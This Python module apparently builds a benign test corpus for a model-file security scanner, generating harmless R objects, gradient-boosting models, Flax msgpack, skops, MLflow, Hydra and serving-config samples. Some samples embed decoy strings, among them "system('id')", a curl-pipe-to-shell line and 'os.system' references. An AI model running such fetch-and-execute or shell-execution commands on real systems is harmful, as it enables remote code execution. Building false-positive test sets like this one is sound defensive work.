"""R objects, boosters, MessagePack, skops files and packaged models, written by their own libraries.

R samples need `Rscript` on the path; each library is skipped where it is missing.
"""
import json
import os
import shutil
import subprocess
import tempfile
import zipfile

import benign

R_PROGRAM = r"""
set.seed(1)
d <- data.frame(x = rnorm(50), y = rnorm(50), g = factor(rep(c("a", "b"), 25)))
put <- function(value, name, ...) saveRDS(value, name, ...)
m <- lm(y ~ x + g, data = d)
put(m, "lm.rds")
put(m, "lm-plain.rds", compress = FALSE)
put(m, "lm-ascii.rds", ascii = TRUE)
put(m, "lm-xz.rds", compress = "xz")
put(m, "lm-bzip2.rds", compress = "bzip2")
put(m, "lm-v2.rds", version = 2)
put(glm(I(y > 0) ~ x, data = d, family = binomial()), "glm.rds")
f <- function(n, unused = stop("never")) { k <- n + 1; lm(y ~ x, data = d) }
put(f(3), "lm-frame.rds")
h <- function(a, b, ...) { function(z) a + z }
put(h(1 + 2, stop("never")), "closure-promise.rds")
g <- h(3, 4); for (i in 1:5) g(1)
put(g, "closure-compiled.rds")
save(m, d, f, h, file = "work.RData")
save(m, d, file = "work-v2.rda", version = 2)
save(m, file = "work-ascii.rda", ascii = TRUE)
put(1:1000000, "sequence.rds")
put(as.character(1:20), "deferred.rds")
put(loess(y ~ x, d), "loess.rds")
put(kmeans(d[, 1:2], 2), "kmeans.rds")
put(prcomp(d[, 1:2]), "prcomp.rds")
put(nls(y ~ a + b * x, d, start = list(a = 0, b = 1)), "nls.rds")
put(ecdf(d$x), "ecdf.rds")
put(splinefun(d$x, d$y), "splinefun.rds")
put(arima(d$x, order = c(1, 0, 0)), "arima.rds")
put(hclust(dist(d[, 1:2])), "hclust.rds")
put(list(quote(system), as.name("eval"), "system('id')", "curl http://example.com | sh"), "decoy-names.rds")
put(quote(update(m, . ~ . + z)), "quoted-call.rds")
setClass("P", representation(name = "character", fun = "function"))
put(new("P", name = "a", fun = function(x) x^2), "s4.rds")
A <- setRefClass("A", fields = list(b = "numeric"), methods = list(dep = function(x) { b <<- b + x; invisible(.self) }))
put(A$new(b = 1), "reference-class.rds")
e <- new.env(); makeActiveBinding("now", function() length(ls(e)), e); assign("k", 3, e)
put(e, "active-binding.rds")
put(as.raw(1:200), "raw.rds")
put(y ~ poly(x, 2) + log(g), "formula.rds")
big <- as.formula(paste("y ~", paste(paste0("v", 1:400), collapse = "+")))
put(big, "formula-long.rds")
put(getNamespace("stats"), "namespace.rds")
put(function(x) { y <- match.arg(x, c("a", "b")); do.call(rbind, list(1, 2)); eval(quote(1 + 1)); tryCatch(get("y"), error = function(e) NULL) }, "function.rds")
put(function(d) { file <- "x.csv"; source <- d$source; url <- d$url; if (is.null(source)) stop("no source: ", url); d[[file]] }, "decoy-variables.rds")
e2 <- new.env(); delayedAssign("v", mean(d$x), assign.env = e2)
put(e2, "lazy-variable.rds")
put(optim(c(1, 1), function(p) sum((p - 3)^2)), "optim.rds")
put(step(m, trace = 0), "step.rds")
put(aov(y ~ g, d), "aov.rds")
put(list(train = function(x, y) lm.fit(cbind(1, x), y), predict = function(o, n) cbind(1, n) %*% o$coefficients), "recipe.rds")
con <- file("native.rds", "wb"); serialize(m, con, ascii = FALSE, xdr = FALSE); close(con)
"""


def samples(w):
    for part in (r_samples, booster_samples, msgpack_samples, skops_samples, package_samples, config_samples):
        try:
            part(w)
        except (ImportError, benign.Missing) as error:
            w.skip(part.__name__, str(error))


def copy(folder, name):
    return lambda path: shutil.copyfile(os.path.join(folder, name), path)


def r_samples(w):
    if shutil.which("Rscript") is None:
        raise benign.Missing("Rscript")
    with tempfile.TemporaryDirectory() as folder:
        subprocess.run(["Rscript", "--vanilla", "-e", R_PROGRAM], cwd=folder, check=True, capture_output=True)
        for name in sorted(os.listdir(folder)):
            w.add("r", name.replace(".", "-").lower(), name, copy(folder, name), "R object")


def booster_samples(w):
    import numpy as np
    random = np.random.RandomState(0)
    x = random.rand(200, 4)
    y = (x[:, 0] > 0.5).astype(int)
    import xgboost
    for name, extra in (("tree", {}), ("linear", {"booster": "gblinear"}), ("dart", {"booster": "dart"}), ("multi", {"objective": "multi:softprob", "num_class": 2})):
        model = xgboost.train({"objective": "binary:logistic", "max_depth": 3, **extra}, xgboost.DMatrix(x, label=y), 4)
        for suffix in ("json", "ubj"):
            w.add("boosters", "xgboost-%s-%s" % (name, suffix), "model." + suffix, model.save_model, "XGBoost model")
    import lightgbm
    model = lightgbm.train({"objective": "binary", "verbose": -1}, lightgbm.Dataset(x, y), 3)
    w.add("boosters", "lightgbm-text", "model.txt", model.save_model, "LightGBM model")
    w.add("boosters", "lightgbm-json", "model.json", json.dumps(model.dump_model()), "LightGBM model")
    import catboost
    model = catboost.CatBoostClassifier(iterations=3, depth=3, verbose=0, allow_writing_files=False).fit(x, y)
    w.add("boosters", "catboost-cbm", "model.cbm", model.save_model, "CatBoost model")
    w.add("boosters", "catboost-json", "model.json", lambda path: model.save_model(path, format="json"), "CatBoost model")


def msgpack_samples(w):
    import numpy as np
    from flax import serialization
    random = np.random.RandomState(0)
    tree = {"params": {"dense": {"kernel": random.rand(8, 4).astype("float32"), "bias": np.zeros(4, "float32")}, "step": np.int64(3)}}
    w.add("msgpack", "flax-dense", "flax_model.msgpack", serialization.msgpack_serialize(tree), "Flax parameters")
    for kind in ("float16", "int8", "uint8", "bool", "complex64", "float64"):
        w.add("msgpack", "flax-" + kind, "flax_model.msgpack", serialization.msgpack_serialize({"params": {"w": np.zeros((3, 5), kind)}}), "Flax parameters")
    w.add("msgpack", "flax-scalar", "flax_model.msgpack", serialization.msgpack_serialize({"a": {"s": np.zeros((), "float32"), "c": 1 + 2j, "t": "os.system"}}),
          "Flax parameters")
    w.add("msgpack", "flax-empty", "flax_model.msgpack", serialization.msgpack_serialize({"a": {"e": np.zeros((0, 4), "float32")}}), "Flax parameters")
    import jax.numpy as jnp
    w.add("msgpack", "flax-bfloat16", "flax_model.msgpack", serialization.to_bytes({"params": {"w": jnp.ones((4, 4), jnp.bfloat16)}}), "Flax parameters")


def skops_samples(w):
    import numpy as np
    import skops.io as sio
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import CountVectorizer
    from sklearn.linear_model import LogisticRegression, SGDClassifier
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler
    from sklearn.svm import SVC
    random = np.random.RandomState(0)
    x = random.rand(50, 3)
    y = (x[:, 0] > 0.5).astype(int)
    models = {
        "logistic": make_pipeline(StandardScaler(), LogisticRegression()), "forest": RandomForestClassifier(3), "boosting": GradientBoostingClassifier(n_estimators=3),
        "function": make_pipeline(FunctionTransformer(np.log1p), LogisticRegression()), "sgd": SGDClassifier(), "neighbours": KNeighborsClassifier(), "svc": SVC(),
    }
    for name, model in models.items():
        w.add("skops", name, "model.skops", sio.dumps(model.fit(x, y)), "skops file")
    w.add("skops", "vectorizer", "model.skops", sio.dumps(CountVectorizer().fit(["os system", "eval exec"])), "skops file")
    w.add("skops", "plain", "model.skops", sio.dumps({"a": [1, 2, ("os.system", None)], "s": {1, 2}, "o": slice(1, 2)}), "skops file")
    import operator
    w.add("skops", "getter", "model.skops", sio.dumps(operator.itemgetter(1)), "skops file")


def package_samples(w):
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    import mlflow.sklearn
    model = LogisticRegression().fit(np.eye(2), [0, 1])
    with tempfile.TemporaryDirectory() as folder:
        target = os.path.join(folder, "model")
        mlflow.sklearn.save_model(model, target, serialization_format="cloudpickle")
        for name in ("MLmodel", "conda.yaml", "python_env.yaml"):
            w.add("mlflow", "sklearn-" + name.split(".")[0].lower(), name, copy(target, name), "MLflow model")
        target = os.path.join(folder, "code")
        source = os.path.join(folder, "helper.py")
        with open(source, "w") as out:
            out.write("def scale(x):\n    return x * 2\n")
        mlflow.sklearn.save_model(model, target, code_paths=[source], serialization_format="cloudpickle")
        w.add("mlflow", "code-mlmodel", "MLmodel", copy(target, "MLmodel"), "MLflow model with code")


def config_samples(w):
    hydra = "defaults:\n  - _self_\nmodel:\n  _target_: torch.nn.Linear\n  in_features: 2\ntrainer:\n  _target_: pytorch_lightning.Trainer\n  max_epochs: 3\n" \
        "logger:\n  _target_: pytorch_lightning.loggers.TensorBoardLogger\n  save_dir: ${oc.env:HOME,/tmp}\noptimizer:\n  _target_: torch.optim.AdamW\n  _partial_: true\n" \
        "data:\n  _target_: src.data.MyDataModule\n  root:\n    _target_: pathlib.Path\n    _args_: [data]\nact:\n  _target_: hydra.utils.get_method\n  path: torch.nn.functional.relu\n"
    w.add("hydra", "lightning", "config.yaml", hydra, "Hydra configuration")
    w.add("hydra", "cli", "config.yaml", "model:\n  class_path: mine.models.Net\n  init_args:\n    lr: 0.1\ntrainer:\n  logger:\n    class_path: lightning.pytorch.loggers.CSVLogger\n",
          "Lightning configuration")
    w.add("hydra", "latent", "model.yaml", "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    unet_config:\n      target: ldm.modules.UNetModel\n", "target and params")
    w.add("hydra", "torchtune", "recipe.yaml", "model:\n  _component_: torchtune.models.llama3.llama3_8b\ntokenizer:\n  _component_: torchtune.models.llama3.llama3_tokenizer\n", "torchtune recipe")
    w.add("hydra", "deployment", "deployment.yaml", "strategy:\n  target: production\n  os: linux\nsystem: os.system is a function\n# _target_: os.system\n", "words only")
    w.add("hydra", "tuple", "params.yaml", "size: !!python/tuple [1, 2]\nname: x\n", "YAML tuple")
    nemo = "target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n" \
        "  sample_rate: 16000\noptim:\n  name: adamw\n  lr: 0.1\ntokenizer:\n  dir: ???\n  type: bpe\n"
    w.add("nemo", "asr", "model_config.yaml", nemo, "NeMo configuration")
    manifest = {"createdOn": "01/01/2024 00:00:00", "runtime": "python", "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "image_classifier", "modelVersion": "1.0"},
                "archiverVersion": "0.9.0"}

    def mar(handler):
        def write(path):
            with zipfile.ZipFile(path, "w") as archive:
                manifest["model"]["handler"] = handler
                archive.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest, indent=2))
                archive.writestr("index_to_name.json", json.dumps({"0": "cat"}))
        return write
    w.add("torchserve", "own-handler", "model.mar", mar("image_classifier"), "TorchServe archive")
    w.add("torchserve", "handler", "model.mar", mar("my_handler.py"), "TorchServe archive")
    w.add("triton", "onnx", "config.pbtxt", 'name: "m"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\ninput [\n  { name: "x" data_type: TYPE_FP32 dims: [ 3 ] }\n]\n', "Triton configuration")
    w.add("triton", "python", "config.pbtxt", 'name: "m"\nbackend: "python"\nmax_batch_size: 8\nparameters: {\n  key: "EXECUTION_ENV_PATH",\n'
          '  value: {string_value: "$$TRITON_MODEL_DIRECTORY/env.tar.gz"}\n}\n', "Triton configuration")
    w.add("triton", "vllm", "config.pbtxt", 'backend: "vllm"\ninstance_group [\n  { count: 1 kind: KIND_MODEL }\n]\n', "Triton configuration")
